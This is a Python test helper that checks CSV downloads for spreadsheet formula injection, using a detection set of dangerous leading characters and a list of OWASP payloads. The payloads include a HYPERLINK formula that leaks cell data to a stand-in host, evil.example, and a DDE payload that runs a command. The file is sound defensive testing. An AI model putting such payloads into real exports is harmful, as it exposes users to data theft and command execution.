"""A check for every CSV export: no cell a spreadsheet could run as a formula.

Use it in any test of a download:

    rows = assert_csv_safe(client.get(url))   # the parsed rows, header first

It is written independently of core.csvexport (its own list of formula characters), so
it checks the writer rather than repeating it. A cell passes when it cannot start a
formula: text whose first non-blank character is none of `= + - @` (nor a tab, CR or
their full-width forms), or a plain number such as `-200`, which a spreadsheet reads as
the number it is. Every row must also have as many cells as the header, so a separator
or quote in a value cannot have split a cell.
"""

import csv
import io
import re

# OWASP's payloads, with the blank-prefixed, quoted and full-width variants.
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your prize")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    ' "=1+1"',
    '"=1+1"',
    "  =1+1",
    "=1+1,=2+2",
    '=1+2";=1+2',
    "＝1+1",
    "＋1+1",
    "－1",
    "＠SUM(1)",
    "\u3000=1+1",
    "'=1+1",
]

_DANGEROUS = set("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−")
_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def csv_text(response) -> str:
    """The body of a CSV response, streamed or not."""
    assert response["Content-Type"].startswith("text/csv"), response["Content-Type"]
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return raw.decode("utf-8-sig")


def dangerous_cells(rows: list[list[str]]) -> list[tuple[int, int, str]]:
    found = []
    for r, row in enumerate(rows):
        for c, cell in enumerate(row):
            if _NUMBER.fullmatch(cell):
                continue
            # str.lstrip() also drops Unicode blanks such as the ideographic space.
            if cell[:1] in _DANGEROUS or cell.lstrip()[:1] in _DANGEROUS:
                found.append((r, c, cell))
    return found


def assert_csv_safe(response) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(csv_text(response))))
    assert rows, "the CSV is empty"
    width = len(rows[0])
    ragged = [(i, len(row)) for i, row in enumerate(rows) if len(row) != width]
    assert not ragged, f"rows with a different number of cells than the header: {ragged}"
    found = dangerous_cells(rows)
    assert not found, f"cells a spreadsheet would run as a formula (row, column, text): {found}"
    return rows
